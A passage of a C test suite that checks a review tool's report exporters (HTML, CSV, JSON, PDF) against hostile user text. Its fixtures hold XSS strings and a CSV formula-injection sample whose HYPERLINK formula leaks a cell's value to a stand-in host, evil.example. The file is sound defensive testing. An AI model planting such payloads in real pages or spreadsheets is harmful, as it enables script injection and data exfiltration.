/* test-export.c: the report exporters (HTML, CSV, JSON, PDF), each output read back by a real consumer, and `export`. */
#include <glib/gstdio.h>
#include <libxml/HTMLparser.h>
#include <libxml/xpath.h>
#include <poppler.h>

#include "cm-test-util.h"

/* poppler-glib 22.12 declares no autoptr cleanups of its own. */
#if !POPPLER_CHECK_VERSION (23, 0, 0)
G_DEFINE_AUTOPTR_CLEANUP_FUNC (PopplerDocument, g_object_unref)
G_DEFINE_AUTOPTR_CLEANUP_FUNC (PopplerPage, g_object_unref)
#endif

/* User text chosen to break naive writers: markup, entities, quotes, commas,
 * line breaks of both kinds, and text outside ASCII. */
#define NOTE_HOSTILE "A <script>alert(\"x\")</script> & &amp; note, with commas\nsecond line\r\nthird — ünïcødé ✓ 東京"
#define NOTE_ENTITY  "&amp; is not & and <b>not bold</b>"
#define RATIONALE_HOSTILE "Carve-out swallows the rule <img src=x onerror=alert(1)> \"really\", yes"
#define REPLY_HOSTILE "Agree <b>strongly</b>, \"flag it\""
#define LONG_NOTE_WORDS 2500
/* Wider than a line: the PDF report must break it inside the word. */
#define REPLY_LONG_WORD "See https://example.org/" \
  "aaaaaaaaaabbbbbbbbbbccccccccccddddddddddeeeeeeeeeeffffffffffgggggggggghhhhhhhhhh" \
  "iiiiiiiiiijjjjjjjjjjkkkkkkkkkkllllllllllmmmmmmmmmmnnnnnnnnnnoooooooooopppppppppp" \
  " and the Hebrew שלום עולם and Arabic مرحبا"

typedef struct
{
  const char   *id;
  const char   *item;
  CmAssessment  assessment;
  guint         page;
  const char   *quote;
  const char   *note;
  const char   *author;
  const char   *section;
} AnnotationSpec;

static const AnnotationSpec specs[] = {
  { "a1-hostile", "info.no-status-sharing", CM_ASSESSMENT_PARTIAL, 1,
    "shall not \"inquire\", or request", NOTE_HOSTILE, "Ruiz, Ana \"Q\"", "2-173-020(a)" },
  { "a2-plain", "detain.judicial-warrant", CM_ASSESSMENT_HARMFUL, 2,
    "unless a judicial warrant\nis presented", "Plain note, with a comma", "Ben Ortiz", NULL },
  { "a3-entity", "detain.judicial-warrant", CM_ASSESSMENT_WEAK, 3,
    "ünïcødé ✓ 東京", NOTE_ENTITY, "Zoë", NULL },
  { "a4-untagged", NULL, CM_ASSESSMENT_NONE, 2,
    "untagged highlight", NULL, "Acrobat User", NULL },
  { "a5-retired", "retired.item", CM_ASSESSMENT_STRONG, 4,
    "old tag", "=1+1 looks like a formula", "Ana", "§ 🚀" },
};

/* Fixture ------------------------------------------------------------------ */

static GDateTime *
fixed_time (int minute)
{
  return g_date_time_new_utc (2026, 11, 20, 10, minute, 11);
}

static CmAnnotation *
make_annotation (const AnnotationSpec *spec)
{
  g_autoptr(GDateTime) created = fixed_time (2);
  g_autoptr(GDateTime) modified = fixed_time (5);
  CmAnnotation *annotation = cm_annotation_new (spec->id, spec->author, created);
  guint start = 100 * spec->page;
  g_autoptr(CmAnchor) anchor = cm_anchor_new (spec->page, start, start + (guint) g_utf8_strlen (spec->quote, -1),
                                              spec->quote, "Sec. 2-173-042. No \"agent\" ", ", unless");
  CmPageRect first = { spec->page, 72.0, 301.5, 540.0, 315.25 };
  CmPageRect second = { spec->page, 72.0, 315.25, 210.125, 329.0 };

  cm_anchor_add_rect (anchor, &first);
  cm_anchor_add_rect (anchor, &second);
  cm_annotation_set_anchor (annotation, anchor);
  cm_annotation_set_item_id (annotation, spec->item);
  cm_annotation_set_assessment (annotation, spec->assessment);
  cm_annotation_set_note (annotation, spec->note);
  cm_annotation_set_section (annotation, spec->section);
  cm_annotation_set_modified (annotation, modified);
  return annotation;
}

typedef struct
{
  CmChecklist *checklist;
  CmDocument  *document;
  CmReview    *review;
} Fixture;

static void
fixture_clear (Fixture *fixture)
{
  g_clear_object (&fixture->checklist);
  g_clear_object (&fixture->document);
  g_clear_object (&fixture->review);
}

G_DEFINE_AUTO_CLEANUP_CLEAR_FUNC (Fixture, fixture_clear)

static void
fixture_init (Fixture *fixture)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = cm_test_fixture_path ("chicago-plain.pdf");
  g_autoptr(GDateTime) verdict_time = fixed_time (30);
  g_autoptr(GDateTime) reply_time = fixed_time (40);
  g_autoptr(CmVerdict) weak = cm_verdict_new ("info.no-status-sharing", CM_ASSESSMENT_WEAK, "Ruiz, Ana \"Q\"");
  g_autoptr(CmVerdict) harmful = cm_verdict_new ("detain.judicial-warrant", CM_ASSESSMENT_HARMFUL, "Ben Ortiz");
  g_autoptr(CmTombstone) tombstone = NULL;

  fixture->checklist = cm_checklist_new_default (&error);
  g_assert_no_error (error);
  fixture->document = cm_document_new_for_path (path, NULL, &error);
  g_assert_no_error (error);

  fixture->review = cm_review_new ();
  cm_review_set_document (fixture->review, "chicago-plain.pdf", cm_document_get_sha256 (fixture->document),
                          cm_document_get_pdf_id (fixture->document), cm_document_get_n_pages (fixture->document));
  cm_review_set_checklist (fixture->review, "sanctuary", "1");
  for (guint i = 0; i < G_N_ELEMENTS (specs); i++)
    {
      g_autoptr(CmAnnotation) annotation = make_annotation (&specs[i]);

      if (i == 0)
        {
          /* (transfer full): the annotation takes the reply. */
          cm_annotation_add_reply (annotation, cm_reply_new ("r1", "Ben Ortiz", reply_time, REPLY_HOSTILE));
          cm_annotation_add_reply (annotation, cm_reply_new ("r2", "Zoë", reply_time, REPLY_LONG_WORD));
        }
      cm_review_load_annotation (fixture->review, annotation);
    }

  /* A note long enough to flow over pages in the PDF report. */
  {
    g_autoptr(CmAnnotation) annotation = NULL;
    g_autoptr(GString) note = g_string_new (NULL);
    AnnotationSpec spec = { "a6-long", "access.no-facility-access", CM_ASSESSMENT_ABSENT, 4,
                            "jail", NULL, "Ana", NULL };

    for (guint i = 0; i < LONG_NOTE_WORDS; i++)
      g_string_append_printf (note, "w%04u ", i);
    spec.note = note->str;
    annotation = make_annotation (&spec);
    cm_review_load_annotation (fixture->review, annotation);
  }

  cm_verdict_set_rationale (weak, RATIONALE_HOSTILE);
  cm_verdict_set_modified (weak, verdict_time);
  cm_review_load_verdict (fixture->review, weak);
  cm_verdict_set_modified (harmful, verdict_time);
  cm_review_load_verdict (fixture->review, harmful);

  tombstone = cm_tombstone_new ("deleted-1", "Ben Ortiz", verdict_time);
  cm_review_load_tombstone (fixture->review, tombstone);
}

static CmExporter *
get_exporter (const char *id)
{
  g_autoptr(GError) error = NULL;
  CmExporter *exporter = cm_plugin_engine_create_exporter (cm_plugin_engine_get_default (), id, &error);

  g_assert_no_error (error);
  g_assert_nonnull (exporter);
  g_assert_cmpstr (cm_exporter_get_id (exporter), ==, id);
  return exporter;
}

static GBytes *
export_to_bytes (const char  *id,
                 CmReview    *review,
                 CmChecklist *checklist,
                 CmDocument  *document)
{
  g_autoptr(CmExporter) exporter = get_exporter (id);
  g_autoptr(GOutputStream) stream = g_memory_output_stream_new_resizable ();
  g_autoptr(GError) error = NULL;

  g_assert_true (cm_exporter_export (exporter, review, checklist, document, stream, NULL, &error));
  g_assert_no_error (error);
  g_output_stream_close (stream, NULL, &error);
  g_assert_no_error (error);
  return g_memory_output_stream_steal_as_bytes (G_MEMORY_OUTPUT_STREAM (stream));
}

static char *
normalise_newlines (const char *text)
{
  g_autoptr(GString) out = g_string_new (text);

  g_string_replace (out, "\r\n", "\n", 0);
  return g_string_free (g_steal_pointer (&out), FALSE);
}

static const char *
expected_title (Fixture *fixture)
{
  const char *title = cm_document_get_title (fixture->document);

  return title != NULL && *title != '\0' ? title : "chicago-plain.pdf";
}

/* Plugins ------------------------------------------------------------------- */

static void
test_plugins_listed (void)
{
  static const struct { const char *id; const char *extension; const char *mime; } expected[] = {
    { "csv", "csv", "text/csv" },
    { "html", "html", "text/html" },
    { "json", "json", "application/json" },
    { "pdf", "pdf", "application/pdf" },
  };
  CmPluginEngine *engine = cm_plugin_engine_get_default ();
  g_autoptr(GPtrArray) exporters = cm_plugin_engine_create_exporters (engine);

  for (guint i = 0; i < G_N_ELEMENTS (expected); i++)
    {
      gboolean found = FALSE;

      for (guint j = 0; j < exporters->len; j++)
        {
          CmExporter *exporter = g_ptr_array_index (exporters, j);

          if (g_strcmp0 (cm_exporter_get_id (exporter), expected[i].id) != 0)
            continue;
          found = TRUE;
          g_assert_cmpstr (cm_exporter_get_extension (exporter), ==, expected[i].extension);
          g_assert_cmpstr (cm_exporter_get_mime_type (exporter), ==, expected[i].mime);
          g_assert_nonnull (cm_exporter_get_label (exporter));
        }
      g_assert_true (found);
    }
  for (const char * const *id = (const char * const[]) { "report-html", "report-csv", "report-json", "report-pdf", NULL };
       *id != NULL; id++)
    {
      CmPluginInfo *info = cm_plugin_engine_lookup_plugin (engine, *id);

      g_assert_nonnull (info);
      g_assert_true (cm_plugin_info_is_loaded (info));
      g_assert_cmpstr (cm_plugin_info_get_provides (info)[0], ==, "exporter");
    }
}

/* HTML ---------------------------------------------------------------------- */

static xmlXPathObjectPtr
html_query (xmlXPathContextPtr  context,
            const char         *expression)
{
  xmlXPathObjectPtr result = xmlXPathEvalExpression ((const xmlChar *) expression, context);

  g_assert_nonnull (result);
  return result;
}

static char *
html_string (xmlXPathContextPtr  context,
             const char         *format,
             ...) G_GNUC_PRINTF (2, 3);

static char *
html_string (xmlXPathContextPtr  context,
             const char         *format,
             ...)
{
  g_autofree char *expression = NULL;
  g_autofree char *wrapped = NULL;
  xmlXPathObjectPtr result;
  char *value;
  va_list args;

  va_start (args, format);
  expression = g_strdup_vprintf (format, args);
  va_end (args);
  wrapped = g_strdup_printf ("string(%s)", expression);
  result = html_query (context, wrapped);
  value = g_strdup ((const char *) result->stringval);
  xmlXPathFreeObject (result);
  return value;
}

static int
html_count (xmlXPathContextPtr  context,
            const char         *format,
            ...) G_GNUC_PRINTF (2, 3);

static int
html_count (xmlXPathContextPtr  context,
            const char         *format,
            ...)
{
  g_autofree char *expression = NULL;
  g_autofree char *wrapped = NULL;
  xmlXPathObjectPtr result;
  int count;
  va_list args;

  va_start (args, format);
  expression = g_strdup_vprintf (format, args);
  va_end (args);
  wrapped = g_strdup_printf ("count(%s)", expression);
  result = html_query (context, wrapped);
  count = (int) result->floatval;
  xmlXPathFreeObject (result);
  return count;
}

static htmlDocPtr
parse_html (GBytes *bytes)
{
  gsize length;
  const char *data = g_bytes_get_data (bytes, &length);
  htmlDocPtr doc;

  g_assert_true (g_utf8_validate (data, (gssize) length, NULL));
  doc = htmlReadMemory (data, (int) length, "report.html", "UTF-8",
                        HTML_PARSE_NONET | HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING);
  g_assert_nonnull (doc);
  return doc;
}

static void
test_html_content (void)
{
  g_auto(Fixture) fixture = { 0 };
  g_autoptr(GBytes) bytes = NULL;
  GPtrArray *items;
  htmlDocPtr doc;
  xmlXPathContextPtr context;
  g_autofree char *title = NULL;
  g_autofree char *heading = NULL;
  g_autofree char *sha = NULL;
  g_autofree char *style = NULL;
  int without_evidence = 0;

  fixture_init (&fixture);
  bytes = export_to_bytes ("html", fixture.review, fixture.checklist, fixture.document);
  doc = parse_html (bytes);
  context = xmlXPathNewContext (doc);

  /* The document. */
  title = html_string (context, "//head/title");
  g_assert_nonnull (strstr (title, expected_title (&fixture)));
  heading = html_string (context, "//h1");
  g_assert_cmpstr (heading, ==, expected_title (&fixture));
  sha = html_string (context, "//dl[@id='document']");
  g_assert_nonnull (strstr (sha, cm_document_get_sha256 (fixture.document)));
  g_assert_nonnull (strstr (sha, "chicago-plain.pdf"));

  /* Every item, with its verdict, in checklist order, flagged when bare. */
  items = cm_checklist_get_items (fixture.checklist);
  g_assert_cmpint (html_count (context, "//article[contains(@class,'item')]"), ==, (int) items->len);
  for (guint i = 0; i < items->len; i++)
    {
      CmChecklistItem *item = g_ptr_array_index (items, i);
      const char *id = cm_checklist_item_get_id (item);
      CmVerdict *verdict = cm_review_lookup_verdict (fixture.review, id);
      CmAssessment level = verdict ? cm_verdict_get_assessment (verdict) : CM_ASSESSMENT_NONE;
      g_autoptr(GPtrArray) evidence = cm_review_get_evidence (fixture.review, id);
      g_autofree char *badge = html_string (context, "//article[@id='item-%s']/p[@class='verdict']/span", id);
      g_autofree char *item_heading = html_string (context, "//article[@id='item-%s']/h4", id);

      g_assert_cmpstr (badge, ==, cm_assessment_get_label (level));
      g_assert_true (g_str_has_prefix (item_heading, cm_checklist_item_get_title (item)));
      g_assert_cmpint (html_count (context, "//article[@id='item-%s']//p[contains(@class,'no-evidence')]", id),
                       ==, evidence->len == 0 ? 1 : 0);
      g_assert_cmpint (html_count (context, "//article[@id='item-%s']//ol[@class='evidence']/li", id),
                       ==, (int) evidence->len);
      if (evidence->len == 0)
        without_evidence++;
    }
  g_assert_cmpint (without_evidence, ==, (int) items->len - 3);

  /* User text shows literally: a note's markup is text, not elements. */
  {
    g_autofree char *note = html_string (context, "//li[@id='annotation-a1-hostile']//p[contains(@class,'note')]");
    g_autofree char *expected = normalise_newlines (NOTE_HOSTILE);
    g_autofree char *entity = html_string (context, "//li[@id='annotation-a3-entity']//p[contains(@class,'note')]");
    g_autofree char *quote = html_string (context, "//li[@id='annotation-a1-hostile']/blockquote");
    g_autofree char *meta = html_string (context, "//li[@id='annotation-a1-hostile']/p[@class='meta']");
    g_autofree char *rationale = html_string (context, "//article[@id='item-info.no-status-sharing']"
                                                       "/p[contains(@class,'rationale')]");
    g_autofree char *reply = html_string (context, "//li[@id='annotation-a1-hostile']//ul[@class='replies']/li");

    g_assert_cmpstr (note, ==, expected);
    g_assert_cmpstr (entity, ==, NOTE_ENTITY);
    g_assert_cmpstr (quote, ==, specs[0].quote);
    g_assert_nonnull (strstr (meta, "Ruiz, Ana \"Q\""));
    g_assert_nonnull (strstr (meta, "2-173-020(a)"));
    g_assert_nonnull (strstr (meta, "page 1"));
    g_assert_nonnull (strstr (meta, "Partial"));
    g_assert_cmpstr (rationale, ==, RATIONALE_HOSTILE);
    g_assert_nonnull (strstr (reply, REPLY_HOSTILE));
  }
  g_assert_cmpint (html_count (context, "//script"), ==, 0);
  g_assert_cmpint (html_count (context, "//img"), ==, 0);
  g_assert_cmpint (html_count (context, "//b"), ==, 0);
  g_assert_cmpint (html_count (context, "//@onerror"), ==, 0);

  /* Self-contained: no resource from anywhere, links only within the page. */
  g_assert_cmpint (html_count (context, "//@src"), ==, 0);
  g_assert_cmpint (html_count (context, "//link"), ==, 0);
  g_assert_cmpint (html_count (context, "//@href[not(starts-with(., '#'))]"), ==, 0);
  style = html_string (context, "//head/style");
  g_assert_nonnull (strstr (style, "@media print"));
  g_assert_nonnull (strstr (style, "prefers-color-scheme:dark"));
  g_assert_nonnull (strstr (style, cm_assessment_get_color (CM_ASSESSMENT_HARMFUL)));
  g_assert_null (strstr (style, "url("));

  /* Summary: one row per category, counts that add up. */
  {
    guint n_categories = g_list_model_get_n_items (cm_checklist_get_categories (fixture.checklist));
    g_autofree char *all_items = html_string (context, "//section[@id='summary']//tfoot/tr/td[2]");
    g_autofree char *weak = html_string (context, "//section[@id='summary']//tfoot/tr/td[5]");
    g_autofree char *harmful = html_string (context, "//section[@id='summary']//tfoot/tr/td[7]");
    g_autofree char *bare = html_string (context, "//section[@id='summary']//tfoot/tr/td[10]");
    g_autofree char *total = g_strdup_printf ("%u", items->len);
    g_autofree char *total_bare = g_strdup_printf ("%u", items->len - 3);

    g_assert_cmpint (html_count (context, "//section[@id='summary']//tbody/tr"), ==, (int) n_categories);
    g_assert_cmpstr (all_items, ==, total);
    g_assert_cmpstr (weak, ==, "1");
    g_assert_cmpstr (harmful, ==, "1");
    g_assert_cmpstr (bare, ==, total_bare);
  }

  /* Reviewers, and what the checklist does not know still shows. */
  g_assert_cmpint (html_count (context, "//section[@id='reviewers']//tbody/tr"), ==, 5);
  g_assert_cmpint (html_count (context, "//section[@id='unfiled']//li[@id='annotation-a4-untagged']"), ==, 1);
  g_assert_cmpint (html_count (context, "//section[@id='unfiled']//li[@id='annotation-a5-retired']"), ==, 1);

  xmlXPathFreeContext (context);
  xmlFreeDoc (doc);
}

/* CSV ----------------------------------------------------------------------- */

/* A strict RFC 4180 reader: records end in CRLF, a field is either bare (no
 * comma, quote, CR or LF) or quoted with doubled inner quotes. Returns NULL
 * on anything else, so a sloppy writer fails the test. */
static GPtrArray *
parse_csv (const char *data,
           gsize       length)
{
  g_autoptr(GPtrArray) records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);
  g_autoptr(GPtrArray) fields = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GString) field = g_string_new (NULL);
  const char *p = data;
  const char *end = data + length;

  while (p < end)
    {
      g_string_truncate (field, 0);
      if (*p == '"')
        {
          p++;
          for (;;)
            {
              if (p >= end)
                return NULL;   /* unterminated quoted field */
              if (*p == '"')
                {
                  if (p + 1 < end && p[1] == '"')
                    {
                      g_string_append_c (field, '"');
                      p += 2;
                      continue;
                    }
                  p++;
                  break;
                }
              g_string_append_c (field, *p++);
            }
        }
      else
        {
          while (p < end && *p != ',' && *p != '\r')
            {
              if (*p == '"' || *p == '\n')
                return NULL;   /* must have been quoted */
              g_string_append_c (field, *p++);
            }
        }
      g_ptr_array_add (fields, g_strdup (field->str));

      if (p < end && *p == ',')
        {
          p++;
          if (p == end)
            return NULL;
          continue;
        }
      /* Our writer ends every record, the last too, with CRLF. */
      if (p + 1 < end && p[0] == '\r' && p[1] == '\n')
        p += 2;
      else
        return NULL;   /* junk after a quoted field, a bare CR, or no final CRLF */
      g_ptr_array_add (fields, NULL);
      /* Stealing leaves FIELDS empty, ready for the next record. */
      g_ptr_array_add (records, g_ptr_array_steal (fields, NULL));
    }
  return g_steal_pointer (&records);
}

static void
test_csv_parser_is_strict (void)
{
  static const char * const bad[] = {
    "a,b\n",            /* LF alone */
    "a,\"b\r\n",        /* unterminated */
    "a,b\"c\r\n",       /* quote in a bare field */
    "a,\"b\"c\r\n",     /* junk after the closing quote */
    "a,b",              /* no final CRLF */
  };
  static const char good_text[] = "a,\"b,\"\"c\"\"\r\nd\",\r\n";
  g_autoptr(GPtrArray) good = parse_csv (good_text, strlen (good_text));

  for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
    g_assert_null (parse_csv (bad[i], strlen (bad[i])));
  g_assert_nonnull (good);
  g_assert_cmpuint (good->len, ==, 1);
  g_assert_cmpstr (((char **) good->pdata[0])[1], ==, "b,\"c\"\r\nd");
  g_assert_cmpstr (((char **) good->pdata[0])[2], ==, "");
}

/* What the CSV should hold for text people wrote: formula-like text gets
 * a leading apostrophe (see test_csv_formula_injection()). Returns TEXT, or
 * a string kept in KEEP. */
static const char *
csv_text (const char *text,
          GPtrArray  *keep)
{
  if (text == NULL || text[0] == '\0' || strchr ("=+-@\t\r", text[0]) == NULL)
    return text != NULL ? text : "";
  g_ptr_array_add (keep, g_strconcat ("'", text, NULL));
  return g_ptr_array_index (keep, keep->len - 1);
}

static void
test_csv_round_trip (void)
{
  static const char * const header[] = {
    "id", "category", "item", "item_title", "assessment", "page",
    "quote", "note", "author", "created", "modified", NULL,
  };
  g_auto(Fixture) fixture = { 0 };
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GPtrArray) records = NULL;
  GListModel *annotations;
  gsize length;
  const char *data;

  fixture_init (&fixture);
  bytes = export_to_bytes ("csv", fixture.review, fixture.checklist, fixture.document);
  data = g_bytes_get_data (bytes, &length);
  g_assert_true (g_utf8_validate (data, (gssize) length, NULL));
  records = parse_csv (data, length);
  g_assert_nonnull (records);

  annotations = cm_review_get_annotations (fixture.review);
  g_assert_cmpuint (records->len, ==, 1 + g_list_model_get_n_items (annotations));
  g_assert_cmpstrv (g_ptr_array_index (records, 0), header);

  for (guint i = 0; i < g_list_model_get_n_items (annotations); i++)
    {
      g_autoptr(CmAnnotation) annotation = g_list_model_get_item (annotations, i);
      char **row = g_ptr_array_index (records, i + 1);
      CmAnchor *anchor = cm_annotation_get_anchor (annotation);
      const char *item_id = cm_annotation_get_item_id (annotation);
      CmChecklistItem *item = item_id ? cm_checklist_lookup_item (fixture.checklist, item_id) : NULL;
      CmChecklistCategory *category = item ? cm_checklist_lookup_category (fixture.checklist,
                                                                            cm_checklist_item_get_category_id (item))
                                           : NULL;
      CmAssessment level = cm_annotation_get_assessment (annotation);
      g_autofree char *page = g_strdup_printf ("%u", cm_anchor_get_page (anchor));
      g_autofree char *created = cm_timestamp_format (cm_annotation_get_created (annotation));
      g_autofree char *modified = cm_timestamp_format (cm_annotation_get_modified (annotation));
      g_autoptr(GPtrArray) keep = g_ptr_array_new_with_free_func (g_free);
      const char *expected[] = {
        cm_annotation_get_id (annotation),
        csv_text (category ? cm_checklist_category_get_title (category) : NULL, keep),
        item_id ? item_id : "",
        csv_text (item ? cm_checklist_item_get_title (item) : NULL, keep),
        level != CM_ASSESSMENT_NONE ? cm_assessment_to_string (level) : "",
        page,
        csv_text (cm_anchor_get_exact (anchor), keep),
        csv_text (cm_annotation_get_note (annotation), keep),
        csv_text (cm_annotation_get_author (annotation), keep),
        created,
        modified,
        NULL,
      };

      g_assert_cmpstrv (row, expected);
    }
}

/* Cells a spreadsheet would take for formulas come out with a leading
 * apostrophe; ordinary text, ids and dates come out as they are. */
static void
test_csv_formula_injection (void)
{
  static const char hostile_note[] = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
  static const char plain_note[] = "Covers every city agency; no exceptions.";
  g_autoptr(GError) error = NULL;
  g_autoptr(CmChecklist) checklist = cm_checklist_new_default (&error);
  g_autoptr(CmReview) review = cm_review_new ();
  g_autoptr(GDateTime) created = g_date_time_new_utc (2026, 11, 20, 10, 2, 11);
  g_autoptr(CmAnnotation) hostile = cm_annotation_new ("a-hostile", "@Mallory", created);
  g_autoptr(CmAnnotation) plain = cm_annotation_new ("b-plain", "Ana Ruiz", created);
  g_autoptr(CmAnchor) hostile_anchor = cm_anchor_new (2, 0, 20, "-1 shall be the fee", "", "");
  g_autoptr(CmAnchor) plain_anchor = cm_anchor_new (3, 0, 20, "shall not detain", "", "");
  CmChecklistItem *item;
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GPtrArray) records = NULL;
  char **row;

  g_assert_no_error (error);
  item = g_ptr_array_index (cm_checklist_get_items (checklist), 0);
  cm_annotation_set_anchor (hostile, hostile_anchor);
  cm_annotation_set_note (hostile, hostile_note);
  cm_annotation_set_item_id (hostile, cm_checklist_item_get_id (item));
  cm_annotation_set_anchor (plain, plain_anchor);
  cm_annotation_set_note (plain, plain_note);
  cm_annotation_set_item_id (plain, cm_checklist_item_get_id (item));
  cm_review_load_annotation (review, hostile);
  cm_review_load_annotation (review, plain);

  bytes = export_to_bytes ("csv", review, checklist, NULL);
  records = parse_csv (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
  g_assert_nonnull (records);
  g_assert_cmpuint (records->len, ==, 3);

  /* Columns: id, category, item, item_title, assessment, page, quote, note, author, created, modified. */
  row = g_ptr_array_index (records, 1);
  g_assert_cmpstr (row[0], ==, "a-hostile");
  g_assert_cmpstr (row[5], ==, "2");
  g_assert_cmpstr (row[6], ==, "'-1 shall be the fee");
  g_assert_true (g_str_has_prefix (row[7], "'="));
  g_assert_cmpstr (row[7] + 1, ==, hostile_note);
  g_assert_cmpstr (row[8], ==, "'@Mallory");
  g_assert_cmpstr (row[9], ==, "2026-11-20T10:02:11Z");

  row = g_ptr_array_index (records, 2);
  g_assert_cmpstr (row[0], ==, "b-plain");
  g_assert_cmpstr (row[3], ==, cm_checklist_item_get_title (item));
  g_assert_cmpstr (row[6], ==, "shall not detain");
  g_assert_cmpstr (row[7], ==, plain_note);
  g_assert_cmpstr (row[8], ==, "Ana Ruiz");
}

/* Annotated PDF --------------------------------------------------------------- */

/* poppler-glib 22.12 cannot set an annotation's /M or /CreationDate (/M is
 * the export time), so the review's dates travel in the comment, in UTC. */
static void
test_annotated_pdf_dates (void)
{
  g_auto(Fixture) fixture = { 0 };
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(PopplerDocument) pdf = NULL;
  guint n_highlights = 0;

  fixture_init (&fixture);
  bytes = export_to_bytes ("annotated-pdf", fixture.review, fixture.checklist, fixture.document);
  pdf = poppler_document_new_from_bytes (bytes, NULL, &error);
  g_assert_no_error (error);
  for (int p = 0; p < poppler_document_get_n_pages (pdf); p++)
    {
      g_autoptr(PopplerPage) page = poppler_document_get_page (pdf, p);
      GList *mapping = poppler_page_get_annot_mapping (page);

      for (GList *l = mapping; l != NULL; l = l->next)
        {
          PopplerAnnot *annot = ((PopplerAnnotMapping *) l->data)->annot;
          g_autofree char *contents = NULL;

          if (poppler_annot_get_annot_type (annot) != POPPLER_ANNOT_HIGHLIGHT)
            continue;
          n_highlights++;
          contents = poppler_annot_get_contents (annot);
          g_assert_nonnull (contents);
          /* make_annotation(): created at 10:02:11, modified at 10:05:11 UTC. */
          g_assert_nonnull (strstr (contents, "2026-11-20 10:02 UTC"));
          g_assert_nonnull (strstr (contents, "2026-11-20 10:05 UTC"));
          g_assert_true (strstr (contents, "10:02 UTC") < strstr (contents, "10:05 UTC"));
        }
      poppler_page_free_annot_mapping (mapping);
    }
  g_assert_cmpuint (n_highlights, >, 0);
}

/* JSON ---------------------------------------------------------------------- */

/* Python's json module reads the export and checks the key order; it prints
 * the values hex-encoded, so the comparison does not go through any JSON
 * writer of ours. */
static const char json_reader[] =
  "import json, sys\n"
  "d = json.load(open(sys.argv[1], encoding='utf-8'))\n"
  "assert list(d) == ['format','version','generator','sidecar_format','document','checklist',"
  "'extensions','annotations','verdicts','tombstones'], list(d)\n"
  "assert d['format'] == 'clausemark-review' and d['version'] == 1\n"
  "assert list(d['document']) == ['file','sha256','pdf_id','pages','title']\n"
  "assert list(d['checklist']) == ['id','version','title']\n"
  "def h(s): return 'null' if s is None else s.encode('utf-8').hex()\n"
  "print('document', h(d['document']['file']), h(d['document']['sha256']), d['document']['pages'])\n"
  "print('checklist', h(d['checklist']['id']), h(d['checklist']['version']))\n"
  "for a in d['annotations']:\n"
  "    assert list(a) == ['id','author','created','modified','item','category','assessment','note',"
  "'section','anchor','replies','extensions'], list(a)\n"
  "    n = a['anchor']\n"
  "    assert list(n) == ['page','start','end','exact','prefix','suffix','state','rects'], list(n)\n"
  "    for r in n['rects']: assert list(r) == ['page','x1','y1','x2','y2'], list(r)\n"
  "    for r in a['replies']: assert list(r) == ['id','author','created','in_reply_to','text'], list(r)\n"
  "    print('annotation', h(a['id']), h(a['author']), h(a['created']), h(a['modified']), h(a['item']),"
  " h(a['assessment']), h(a['note']), h(a['section']), n['page'], n['start'], n['end'], h(n['exact']),"
  " h(n['prefix']), h(n['suffix']),"
  " ' '.join('%d:%g:%g:%g:%g' % (r['page'], r['x1'], r['y1'], r['x2'], r['y2']) for r in n['rects']),"
  " len(a['replies']), ' '.join(h(r['author']) + ':' + h(r['text']) for r in a['replies']))\n"
  "for v in d['verdicts']:\n"
  "    assert list(v) == ['item','assessment','author','modified','rationale','extensions'], list(v)\n"
  "    print('verdict', h(v['item']), h(v['assessment']), h(v['author']), h(v['modified']), h(v['rationale']))\n"
  "for t in d['tombstones']:\n"
  "    assert list(t) == ['id','author','modified'], list(t)\n"
  "    print('tombstone', h(t['id']), h(t['author']), h(t['modified']))\n";

static char *
hex (const char *text)
{
  GString *out;

  if (text == NULL)
    return g_strdup ("null");
  out = g_string_new (NULL);
  for (const guchar *p = (const guchar *) text; *p != '\0'; p++)
    g_string_append_printf (out, "%02x", *p);
  return g_string_free (out, FALSE);
}

static char *
expected_json_dump (Fixture *fixture)
{
  GString *out = g_string_new (NULL);
  GListModel *annotations = cm_review_get_annotations (fixture->review);
  GListModel *verdicts = cm_review_get_verdicts (fixture->review);
  GPtrArray *tombstones = cm_review_get_tombstones (fixture->review);
  g_autofree char *file = hex ("chicago-plain.pdf");
  g_autofree char *sha = hex (cm_document_get_sha256 (fixture->document));
  g_autofree char *checklist = hex ("sanctuary");
  g_autofree char *version = hex ("1");

  g_string_append_printf (out, "document %s %s %u\n", file, sha, cm_document_get_n_pages (fixture->document));
  g_string_append_printf (out, "checklist %s %s\n", checklist, version);
  for (guint i = 0; i < g_list_model_get_n_items (annotations); i++)
    {
      g_autoptr(CmAnnotation) a = g_list_model_get_item (annotations, i);
      CmAnchor *anchor = cm_annotation_get_anchor (a);
      GArray *rects = cm_anchor_get_rects (anchor);
      GPtrArray *replies = cm_annotation_get_replies (a);
      CmAssessment level = cm_annotation_get_assessment (a);
      g_autofree char *created = cm_timestamp_format (cm_annotation_get_created (a));
      g_autofree char *modified = cm_timestamp_format (cm_annotation_get_modified (a));
      char *fields[] = {
        hex (cm_annotation_get_id (a)), hex (cm_annotation_get_author (a)), hex (created), hex (modified),
        hex (cm_annotation_get_item_id (a)), hex (level != CM_ASSESSMENT_NONE ? cm_assessment_to_string (level) : NULL),
        hex (cm_annotation_get_note (a)), hex (cm_annotation_get_section (a)),
        hex (cm_anchor_get_exact (anchor)), hex (cm_anchor_get_prefix (anchor)), hex (cm_anchor_get_suffix (anchor)),
      };
      g_autoptr(GString) rect_text = g_string_new (NULL);
      g_autoptr(GString) reply_text = g_string_new (NULL);

      for (guint j = 0; j < rects->len; j++)
        {
          CmPageRect *r = &g_array_index (rects, CmPageRect, j);
          g_string_append_printf (rect_text, "%s%u:%g:%g:%g:%g", j ? " " : "", r->page, r->x1, r->y1, r->x2, r->y2);
        }
      for (guint j = 0; j < replies->len; j++)
        {
          CmReply *reply = g_ptr_array_index (replies, j);
          g_autofree char *author = hex (cm_reply_get_author (reply));
          g_autofree char *text = hex (cm_reply_get_text (reply));
          g_string_append_printf (reply_text, "%s%s:%s", j ? " " : "", author, text);
        }
      g_string_append_printf (out, "annotation %s %s %s %s %s %s %s %s %u %u %u %s %s %s %s %u %s\n",
